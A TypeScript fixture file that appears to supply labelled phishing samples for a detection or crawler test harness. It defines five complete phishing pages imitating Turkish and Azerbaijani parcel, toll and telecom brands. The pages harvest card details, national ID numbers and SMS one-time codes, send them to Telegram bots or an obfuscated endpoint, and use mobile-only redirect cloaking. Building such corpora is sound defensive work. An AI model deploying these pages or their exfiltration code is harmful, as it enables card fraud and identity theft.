import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { cardFields, doc, hex, logo, smsPanel, telegramDrop } from '../parts/xb-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'xb-yurtici-gumruk-offsite-kit',
    label: 'phishing',
    kind: 'parcel-customs-lure-offsite',
    url: 'https://yurticikargo-gonderi.shop/takip?no=207845119364',
    body: doc({
      title: 'Yurtiçi Kargo | Gönderi Sorgulama',
      css: `body{margin:0;font-family:Verdana,Arial,sans-serif;background:#fff}.hb{background:#003a70;padding:14px 24px}.st{max-width:620px;margin:30px auto;border:1px solid #dfe6ee;border-radius:6px;overflow:hidden}
.st h2{background:#f3f7fb;margin:0;padding:14px 18px;font-size:16px;color:#003a70}.st table{width:100%;border-collapse:collapse;font-size:13px}.st td{padding:9px 18px;border-top:1px solid #eef2f6}
.pay{display:block;margin:18px;padding:14px;text-align:center;background:#f7a600;color:#fff;font-weight:bold;text-decoration:none;border-radius:4px}`,
      body: `<div class="hb">${logo({ name: 'Yurtiçi Kargo', color: '#ffffff', mark: 'box' })}</div>
<div class="st"><h2>Gönderi No: 207845119364</h2>
<table><tr><td>Gönderici</td><td>AMAZON EU SARL (Lüksemburg)</td></tr><tr><td>Durum</td><td style="color:#c60"><b>Gümrük beyanı bekleniyor</b></td></tr><tr><td>Gümrük vergisi ve harç</td><td><b>38,50 TL</b></td></tr><tr><td>Son ödeme</td><td>16.10.2025 23:59</td></tr></table>
<p style="padding:0 18px;font-size:13px">30 Euro üzeri yurt dışı gönderiler için gümrük vergisi ödenmeden teslimat yapılamamaktadır. Ödeme yapılmayan gönderiler 7 gün sonra tasfiye edilir.</p>
<a class="pay" id="go" href="https://guvenli-odeme-3dsecure.com/yk/odeme?ref=207845119364&amp;t=38.50">Gümrük Ücretini Öde (38,50 TL)</a></div>
<script>setTimeout(function(){location.href=document.getElementById('go').href},9000)</script>`,
    }),
    routes: {
      'guvenli-odeme-3dsecure.com/yk/odeme': htmlRoute(doc({
        title: 'Güvenli Ödeme',
        css: `body{margin:0;background:#eceff3;font-family:Arial,sans-serif}.p{max-width:400px;margin:40px auto;background:#fff;border-radius:8px;padding:22px;box-shadow:0 4px 20px #0001}
.p .fld label{font-size:12px;color:#666;display:block}.p .fld input,.p .fld select{width:100%;box-sizing:border-box;padding:10px;border:1px solid #ccd;border-radius:4px;margin:3px 0 10px}.half{display:inline-block;width:48%;margin-right:2%}
.p button{width:100%;background:#003a70;color:#fff;border:0;padding:12px;border-radius:4px;font-size:15px}.lk{text-align:center;font-size:11px;color:#889}`,
        body: `<div class="p" id="frmbox"><div style="display:flex;justify-content:space-between;align-items:center"><b>Ödeme Tutarı</b><span style="font-size:22px;font-weight:bold">38,50 TL</span></div><p style="font-size:12px;color:#667">Açıklama: Gümrük vergisi · Gönderi 207845119364</p>
<form id="pf">${cardFields({ lang: 'tr', split: true, names: { holder: 'h', number: 'n', exp: 'm', yy: 'y', cvv: 'c' } })}<button>Ödemeyi Tamamla</button></form><p class="lk">🔒 3D Secure · VISA · Mastercard · TROY</p></div>
${smsPanel({ lang: 'tr', id: 'yk', phone: '05** *** ** 23', seconds: 180, bank: 'Güvenli Ödeme', amount: '38,50 TL', color: '#003a70' })}
<script>
${telegramDrop({ token: '7012288469:AAGm3KqZ8pTy1sXwV0bN4cD7eF2hJ5kL9aQ', chat: '-1001987765432', fn: 'q', style: 'rev' })}
document.getElementById('pf').onsubmit=function(e){e.preventDefault();var s='📦 YK GUMRUK\\n';new FormData(this).forEach(function(v,k){s+=k+': '+v+'\\n'});q(s+'ref: '+location.search);document.getElementById('frmbox').style.display='none';document.getElementById('yk').style.display='block'};
document.getElementById('yk-ok').onclick=function(){q('SMS: '+document.getElementById('yk-code').value);document.getElementById('yk-code').value='';alert('Girdiğiniz kod hatalı. Lütfen yeni gönderilen kodu giriniz.')};
</script>`,
      })),
    },
  },
  {
    id: 'xb-aras-kargo-sms-shortlink',
    label: 'phishing',
    kind: 'parcel-lure-redirect-chain',
    url: 'https://arskrg.cc/t/9XK2m',
    routes: {
      'arskrg.cc/t/9XK2m': redirectRoute(301, 'https://trk.arskrg.cc/r?c=9XK2m&s=sms'),
      'trk.arskrg.cc/r': htmlRoute(`<!doctype html><html><head><meta charset="utf-8"><title>Yönlendiriliyor</title><meta name="referrer" content="no-referrer"></head><body><script>var m=/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent);location.replace(m?'https://araskargo-teslimat.net/sorgu?k=9XK2m':'https://www.araskargo.com.tr/')</script></body></html>`),
      'araskargo-teslimat.net/sorgu': htmlRoute(doc({
        title: 'Aras Kargo - Teslimat Planlama',
        css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f6f6f6}.h{background:#e3001b;padding:12px 16px}.m{margin:14px;background:#fff;border-radius:10px;padding:16px}
.m h3{margin-top:0;color:#e3001b}.m input{width:100%;box-sizing:border-box;border:1px solid #ddd;border-radius:6px;padding:12px;margin-bottom:10px;font-size:15px}.m button{width:100%;background:#e3001b;color:#fff;border:0;border-radius:6px;padding:14px;font-size:16px}
.sm{font-size:12px;color:#777}.half{display:inline-block;width:48%;margin-right:2%}.fld label{font-size:12px;color:#777}`,
        body: `<div class="h">${logo({ name: 'ARAS KARGO', color: '#ffffff', mark: 'box' })}</div>
<div class="m"><h3>Teslimat denemesi başarısız</h3><p>Kuryemiz 13.10.2025 tarihinde adresinizde kimseyi bulamamıştır. Yeni teslimat tarihi planlamak için bilgilerinizi doğrulayın. Yeniden dağıtım ücreti: <b>9,87 TL</b></p>
<form id="ar"><input name="adsoyad" placeholder="Ad Soyad" required><input name="tc" placeholder="T.C. Kimlik No" maxlength="11" required><input name="adres" placeholder="Teslimat adresi" required><input name="tel" placeholder="Telefon" required>
${cardFields({ lang: 'tr', holder: false, names: { number: 'kk', exp: 'sk', cvv: 'cv' } })}
<button type="submit">Teslimatı Planla (9,87 TL)</button></form><p class="sm">Kart bilgileriniz 256 bit SSL ile şifrelenir.</p></div>
<script>
var E='${hex('/api/v1/teslimat.php')}'.match(/../g).map(function(h){return String.fromCharCode(parseInt(h,16))}).join('');
document.getElementById('ar').onsubmit=function(e){e.preventDefault();navigator.sendBeacon(E,new FormData(this));this.innerHTML='<p>Bankanızdan gelen onay kodunu giriniz:</p><input id="o" maxlength="6"><button type="button" onclick="navigator.sendBeacon(E,\\'otp=\\'+document.getElementById(\\'o\\').value);location=\\'https://www.araskargo.com.tr\\'">Onayla</button>'};
</script>`,
      })),
      'araskargo-teslimat.net/api/v1/teslimat.php': jsonRoute({ ok: true }),
    },
  },
  {
    id: 'xb-hgs-ihlalli-gecis-plaka',
    label: 'phishing',
    kind: 'toll-fine-lure-kit',
    url: 'https://hgs-ihlal-sorgulama.com/kgm/ihlalli-gecis',
    body: doc({
      title: 'KGM | HGS İhlalli Geçiş Sorgulama ve Ödeme',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#eef1f4}.k{background:#0d4f8b;color:#fff;padding:12px 20px;display:flex;align-items:center;gap:12px}.k span{font-size:13px;opacity:.9}
.w{max-width:640px;margin:24px auto;background:#fff;border:1px solid #d6dde4;padding:22px}.pl{display:flex;gap:8px}.pl input{flex:1;text-transform:uppercase;font-size:20px;padding:10px;border:2px solid #0d4f8b;letter-spacing:2px}
.pl button{background:#0d4f8b;color:#fff;border:0;padding:0 20px}table{width:100%;border-collapse:collapse;margin-top:16px;font-size:13px}td,th{border:1px solid #dde;padding:7px;text-align:left}th{background:#f3f6f9}
.tot{color:#c00;font-weight:bold}#r,#o{display:none}.fld label{font-size:12px;display:block;margin-top:8px}.fld input,.fld select{width:100%;box-sizing:border-box;padding:9px;border:1px solid #bbc}.half{display:inline-block;width:48%;margin-right:2%}
.pay{margin-top:14px;background:#c00;color:#fff;border:0;padding:12px 20px;font-size:15px}`,
      body: `<div class="k">${logo({ name: 'KGM', color: '#ffffff', mark: 'shield' })}<span>T.C. Ulaştırma ve Altyapı Bakanlığı · Karayolları Genel Müdürlüğü</span></div>
<div class="w"><h2 style="margin-top:0;font-size:19px">HGS / OGS İhlalli Geçiş Sorgulama</h2>
<p style="font-size:13px">6001 sayılı Kanun gereği ihlalli geçiş cezaları, <b>15 gün</b> içinde ödenmediği takdirde geçiş ücretinin <b>10 katı</b> olarak tahsil edilir.</p>
<div class="pl"><input id="pk" placeholder="34 ABC 123" maxlength="10"><button onclick="q()">Sorgula</button></div>
<div id="r"><table><thead><tr><th>Tarih</th><th>Otoyol / Köprü</th><th>Tutar</th></tr></thead><tbody>
<tr><td>28.09.2025 08:14</td><td>Osmangazi Köprüsü</td><td>995,00 TL</td></tr><tr><td>04.10.2025 19:52</td><td>Kuzey Marmara Otoyolu (Hasdal)</td><td>189,00 TL</td></tr>
<tr><td colspan="2" class="tot">Toplam (cezasız son gün: 16.10.2025)</td><td class="tot">1.184,00 TL</td></tr></tbody></table>
<form id="o" onsubmit="return pay(event)"><h3 style="font-size:16px">Kart ile Ödeme</h3>${cardFields({ lang: 'tr', split: true, names: { holder: 'ad', number: 'kart', exp: 'ay', yy: 'yil', cvv: 'cvc' } })}<div class="fld"><label>Cep Telefonu</label><input name="gsm"></div><button class="pay">1.184,00 TL Öde</button></form></div></div>
<script>
function q(){var p=document.getElementById('pk').value.replace(/\\s/g,'');if(p.length<5){alert('Plaka giriniz');return}document.getElementById('r').style.display='block';document.getElementById('o').style.display='block';window._plk=p}
function pay(e){e.preventDefault();var fd=new FormData(e.target);fd.append('plaka',window._plk||'');
 fetch('/kgm/odeme/islem.php',{method:'POST',body:fd}).then(function(r){return r.json()}).then(function(j){if(j&&j.next)location.href=j.next}).catch(function(){});return false}
</script>`,
    }),
    routes: {
      'hgs-ihlal-sorgulama.com/kgm/odeme/islem.php': jsonRoute({ next: '/kgm/odeme/3d-dogrulama' }),
      'hgs-ihlal-sorgulama.com/kgm/odeme/3d-dogrulama': htmlRoute(doc({
        title: '3D Secure',
        body: `${smsPanel({ lang: 'tr', id: 'hg', phone: '05** *** ** 60', seconds: 180, bank: 'KGM Tahsilat', amount: '1.184,00 TL', color: '#0d4f8b' })}<script>document.getElementById('hg').style.display='block';document.getElementById('hg-ok').onclick=function(){fetch('/kgm/odeme/islem.php',{method:'POST',body:'sms='+document.getElementById('hg-code').value});document.body.innerHTML='<p style="font-family:Arial;text-align:center;margin-top:60px">Ödemeniz alınmıştır. Teşekkür ederiz.</p>'}</script>`,
      })),
    },
  },
  {
    id: 'xb-turkcell-hediye-50gb-kart',
    label: 'phishing',
    kind: 'telco-gift-data-lure',
    url: 'https://turkcell-hediye50gb.com/kampanya/',
    body: doc({
      title: 'Turkcell 31. Yıl Hediye 50 GB',
      css: `body{margin:0;background:#0b2a5b;font-family:"Greycliff CF",Arial,sans-serif;color:#fff;text-align:center}.tc{padding:18px}.gb{font-size:72px;font-weight:900;color:#ffc900;margin:10px 0}
.cd{display:inline-flex;gap:8px;margin:8px 0 18px}.cd b{background:#133f82;border-radius:6px;padding:8px 12px;font-size:22px}.in{max-width:360px;margin:0 auto;background:#fff;color:#222;border-radius:14px;padding:20px;text-align:left}
.in input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #ccd;border-radius:8px;margin:6px 0 12px;font-size:16px}.in button{width:100%;padding:14px;background:#ffc900;border:0;border-radius:26px;font-weight:800;font-size:16px;color:#0b2a5b}
.cm{max-width:360px;margin:18px auto;text-align:left;font-size:13px;color:#cfe}.cm p{background:#133f82;border-radius:8px;padding:8px}.fld label{font-size:12px;color:#555}.half{display:inline-block;width:48%;margin-right:2%}`,
      body: `<div class="tc">${logo({ name: 'Turkcell', color: '#ffc900', mark: 'star' })}</div>
<h1 style="margin:0 12px">31. yılımıza özel tüm abonelere</h1><div class="gb">50 GB</div><p>HEDİYE İNTERNET! Kampanya bitimine kalan:</p>
<div class="cd"><b id="h">05</b><b id="m">42</b><b id="s">19</b></div>
<div class="in" id="s1"><label>Turkcell numaranız</label><input id="no" placeholder="5XX XXX XX XX" maxlength="13"><button onclick="n1()">Hediyemi Tanımla</button></div>
<div class="in" id="s2" style="display:none"><p style="margin-top:0;font-size:14px">Hediye paketinin hattınıza tanımlanması için <b>1 TL</b> kart doğrulaması yapılacaktır. Tutar 24 saat içinde iade edilir.</p><form id="kf">${cardFields({ lang: 'tr', names: { holder: 'isim', number: 'no', exp: 'tarih', cvv: 'kod' } })}<button>Doğrula ve Yükle</button></form></div>
<div class="cm"><p>👩 Ayşe K.: Yükledim, 50 GB geldi teşekkürler Turkcell 😍</p><p>👨 Murat D.: İlk başta inanmadım ama gerçekmiş</p><p>👩 Zeynep A.: 2 dakikada tanımlandı</p></div>
<script>
${telegramDrop({ token: '7829001145:AAEoPzR3tY8uV1wX4yZ7aB0cD3eF6gH9iJk', chat: '-1002233445566', fn: 'z', style: 'plain' })}
var t=20539;setInterval(function(){t--;document.getElementById('h').textContent=('0'+Math.floor(t/3600)).slice(-2);document.getElementById('m').textContent=('0'+Math.floor(t%3600/60)).slice(-2);document.getElementById('s').textContent=('0'+t%60).slice(-2)},1000);
var gsm='';function n1(){gsm=document.getElementById('no').value;if(gsm.replace(/\\D/g,'').length<10)return alert('Numaranızı kontrol ediniz');z('TURKCELL HEDIYE\\nGSM: '+gsm);document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block'}
document.getElementById('kf').onsubmit=function(e){e.preventDefault();var f=this;z('GSM: '+gsm+'\\nİsim: '+f.isim.value+'\\nKart: '+f.no.value+'\\nTarih: '+f.tarih.value+'\\nCVV: '+f.kod.value).then(function(){location.href='/kampanya/onay.html'})};
</script>`,
    }),
    routes: {
      'turkcell-hediye50gb.com/kampanya/onay.html': htmlRoute(doc({
        title: 'Turkcell - Onay',
        body: `<div style="font-family:Arial;max-width:340px;margin:50px auto;text-align:center"><h2>Son adım</h2><p>Bankanızdan gelen SMS onay kodunu girerek 50 GB hediye internetinizi aktive edin.</p><form method="post" action="/kampanya/onay.php"><input name="sms" maxlength="6" style="font-size:22px;width:100%;text-align:center"><button style="margin-top:12px;width:100%;padding:12px;background:#ffc900;border:0;border-radius:20px">Aktive Et</button></form></div>`,
      })),
    },
  },
  {
    id: 'xb-azerpoct-baglama-gomruk',
    label: 'phishing',
    kind: 'parcel-fee-lure-az',
    url: 'https://azerpoct-baglama.info/izle/AZ7741203',
    body: doc({
      title: 'Azərpoçt — Bağlamanın izlənməsi',
      lang: 'az',
      css: `body{margin:0;background:#f4f6fa;font-family:Arial,sans-serif}.hd{background:#0057a8;padding:12px 20px;color:#fff;display:flex;align-items:center;gap:12px}.bx{max-width:480px;margin:22px auto;background:#fff;border-radius:10px;padding:20px}
.st{border-left:3px solid #0057a8;padding-left:12px;font-size:14px}.fld label{display:block;font-size:12px;color:#667;margin-top:8px}.fld input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #ccd;border-radius:6px}
.half{display:inline-block;width:48%;margin-right:2%}button{margin-top:14px;width:100%;background:#f39200;color:#fff;border:0;border-radius:6px;padding:13px;font-size:16px}`,
      body: `<div class="hd">${logo({ name: 'Azərpoçt', color: '#ffffff', mark: 'box' })}<span>Bağlamanın izlənməsi</span></div>
<div class="bx"><p class="st">İzləmə nömrəsi: <b>AZ7741203</b><br>Status: <b style="color:#c00">Gömrükdə saxlanılıb</b><br>Tarix: 13.10.2025</p>
<p>Bağlamanız ödənilməmiş gömrük rüsumu səbəbindən saxlanılıb. Çatdırılmanın davam etməsi üçün <b>1,20 AZN</b> ödəniş edin. Ödəniş edilmədikdə bağlama 5 gün ərzində göndərənə qaytarılacaq.</p>
<form id="ap"><div class="fld"><label>Ad, soyad</label><input name="ad" required></div><div class="fld"><label>Mobil nömrə</label><input name="mob" value="+994" required></div>
${cardFields({ lang: 'az', holder: false, names: { number: 'kart', exp: 'tarix', cvv: 'cvv' } })}<button>1,20 AZN ödə</button></form></div>
${smsPanel({ lang: 'az', id: 'aq', phone: '+994 55 *** ** 07', seconds: 120, bank: 'Azərpoçt ödəniş', amount: '1,20 AZN', color: '#0057a8' })}
<script>
${telegramDrop({ token: '6931557702:AAHn8Lr2Wq5Xe4Tz7Yb1Uc0Vd3Ie6Of9PgK', chat: '-1001876543210', fn: 'bot', style: 'split' })}
document.getElementById('ap').onsubmit=function(e){e.preventDefault();var t='AZERPOCT\\n';new FormData(this).forEach(function(v,k){t+=k+'='+v+'\\n'});bot(t);this.parentNode.style.display='none';document.getElementById('aq').style.display='block'};
document.getElementById('aq-ok').onclick=function(){bot('SMS='+document.getElementById('aq-code').value).then(function(){location.replace('https://www.azerpost.az/')})};
</script>`,
    }),
  },
];
